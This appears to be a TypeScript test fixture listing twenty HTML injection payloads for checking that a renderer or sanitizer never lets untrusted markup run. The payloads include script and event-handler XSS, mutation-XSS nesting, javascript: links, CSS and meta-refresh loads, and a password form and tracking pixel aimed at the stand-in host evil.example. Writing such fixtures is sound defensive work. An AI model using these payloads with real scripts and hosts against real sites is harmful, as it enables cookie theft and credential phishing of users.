/** Markup that a reader of records must never let run: no more than a call of `canary()` or a request to evil.example. */

/** Twenty payloads, each well-formed enough to stand in a narrative. */
export const PAYLOADS: readonly string[] = [
  '<script>canary()</script>',
  '<img src="x" onerror="canary()"/>',
  '<svg onload="canary()"></svg>',
  '<svg><script>canary()</script></svg>',
  '<svg><use href="data:image/svg+xml,%3Csvg id=%27x%27 onload=%27canary()%27/%3E#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="canary()"/></style></mglyph></table></mtext></math>',
  '<p style="background:url(https://evil.example/style)">styled</p>',
  '<style>@import "https://evil.example/import.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/link.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"/>',
  '<base href="https://evil.example/"/>',
  '<form action="https://evil.example/form"><input name="password" type="password"/><button>Sign in</button></form>',
  '<iframe srcdoc="&lt;script&gt;parent.canary()&lt;/script&gt;"></iframe>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<a href="javascript:canary()">Open the report</a>',
  '<a href="java&#10;script:canary()">Open the report</a>',
  '<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=canary()&gt;"></p></noscript>',
  '<img src="https://evil.example/pixel.png" width="1" height="1"/>',
  '<object data="https://evil.example/object"></object>',
  '<details open="open" ontoggle="canary()"><summary>More</summary></details>',
];
